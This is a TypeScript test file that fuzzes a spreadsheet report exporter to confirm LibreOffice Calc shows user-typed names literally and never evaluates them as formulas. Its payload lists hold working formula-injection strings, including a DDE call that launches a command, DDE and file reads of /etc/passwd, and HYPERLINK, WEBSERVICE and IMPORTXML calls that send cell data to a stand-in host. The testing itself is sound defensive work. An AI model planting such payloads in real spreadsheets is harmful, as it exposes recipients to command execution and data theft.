import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import writeWorkbook from 'write-excel-file/universal';
import type { LaidOutReport } from '../../src/formats/report/report-lines.ts';
import { linesOf } from '../../src/formats/report/report-lines.ts';
import { writeReport } from '../../src/formats/report/write-report.ts';
import { writeXlsx } from '../../src/formats/sheet/write-xlsx.ts';
import { birth, hoaFamily, openRegister } from '../register/tale.ts';
import { openInCalc, readCells } from './libre-office.ts';

/*
 * The spreadsheet of most offices opens our workbooks: the cells it shows are those that were written, and whatever
 * somebody typed as a name is shown as it was typed, and never worked out.
 */

const register = openRegister([...hoaFamily, ...birth('b1', { date: '2026-11-20', mother: 'p2', fullName: 'An' })]);
const laidOut = (code: string, period: string, communeName: string): LaidOutReport => ({
  table: register.report(code, period, 'u-c'),
  columns: [register.report(code, period, 'u-v1'), register.report(code, period, 'u-v2')],
  hasOwn: true,
  communeName,
});
const month = laidOut('01-DSX', '2026-11', 'Xã Hương Mẫu');
const quarter = laidOut('02-DSX', '2026-Q4', '=HYPERLINK("http://x","y")');

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\n=',
  '\r=',
  ' =',
  '\u00a0=',
  "'=",
  '"=',
  '＝',
  '{=',
  '=-',
  '==',
  '%',
  '',
] as const;
const middles = [
  '1+1',
  'SUM(1;2)',
  'HYPERLINK("http://x.invalid/"&A1;"Bấm vào đây")',
  'WEBSERVICE("http://x.invalid/")',
  "cmd|' /C calc'!A0",
  'DDE("soffice";"/etc/passwd";"A1")',
  'IMPORTXML("http://x.invalid/";"//a")',
  "'file:///etc/passwd'#$Sheet1.A1",
  'NOW()',
  'A1',
  '_x003D_1+1',
  '<f>1+1</f>',
  '</t></is></c><c r="B1"><f>1+1</f></c>',
  ']]><f>1</f>',
  '&#61;1+1',
  '1E5',
  '0123',
  'TRUE',
  '2026-01-02',
  '1/2',
  '100%',
] as const;
const anyHostile = fc
  .tuple(fc.constantFrom(...starts), fc.constantFrom(...middles), fc.string({ unit: 'grapheme', maxLength: 12 }))
  .map((parts) => parts.join(''));
const hostile = fc.sample(anyHostile, { numRuns: 10_000, seed: 26 });

let seen: ReadonlyMap<string, string> = new Map();
beforeAll(async () => {
  const control = writeWorkbook([[{ value: '=1+1', type: 'Formula' }]]);
  const files = new Map([
    ['thang', await writeReport({ ...month, by: 'Trần Thị Bích' })],
    ['quy', await writeReport({ ...quarter, by: '+1+1' })],
    [
      'la',
      await writeXlsx([{ name: 'Danh sach', rows: [['STT', 'Họ tên'], ...hostile.map((text, at) => [at, text])] }]),
    ],
    ['tinh', new Uint8Array(await (await control.toBlob()).arrayBuffer())],
  ]);
  seen = await openInCalc(files);
});

/** Cells of a file's only sheet. */
function cellsOf(name: string): readonly (readonly string[])[] {
  const [, text] = [...seen].find(([file]) => file.startsWith(`${name}-`)) ?? [];
  if (text === undefined) throw new Error(`${name} was not opened`);
  return readCells(text);
}

test('it is one that works formulas out: the one workbook that has one shows its result', () => {
  expect(cellsOf('tinh')).toEqual([['2']]);
});

describe('a report', () => {
  test.each([
    ['thang', month],
    ['quy', quarter],
  ])('%s has the right cells, numbers as numbers', (name, given) => {
    const rows = cellsOf(name);
    expect(rows[0]?.[0]).toBe(`Đơn vị báo cáo: ${given.communeName}`);
    expect(rows.flat()).toContain(given.table.title.vi.toUpperCase());
    const lines = linesOf(given);
    const shown = rows.filter((row) => lines.some(({ label, unit }) => row[1] === label && row[2] === unit));
    expect(shown).toHaveLength(lines.length);
    for (const [at, line] of lines.entries()) {
      const cells = line.values.map((value) => (value === null ? '—' : String(value)));
      expect([line.label, shown[at]?.slice(3)]).toEqual([line.label, cells]);
    }
  });

  test('only what is counted is a number: text stands in quotes', () => {
    const [, text = ''] = [...seen].find(([file]) => file.startsWith('thang-')) ?? [];
    expect(text).toMatch(/^"4","[^"]*","người",1,1,0,1$/m);
  });

  test('whoever is called like a formula is called so on paper', () => {
    expect(cellsOf('quy').flat()).toContain('+1+1');
  });
});

test('ten thousand hostile cells: none is worked out, each is shown as it was written', () => {
  const rows = cellsOf('la').slice(1);
  expect(rows).toHaveLength(hostile.length);
  // XML knows one end of a line (XML 1.0, 2.11): a carriage return is read as one.
  const expected = hostile.map((text) => text.replaceAll('\r', '\n'));
  const wrong = expected.flatMap((text, at) => (rows[at]?.[1] === text ? [] : [[text, rows[at]?.[1]]]));
  expect(wrong).toEqual([]);
});
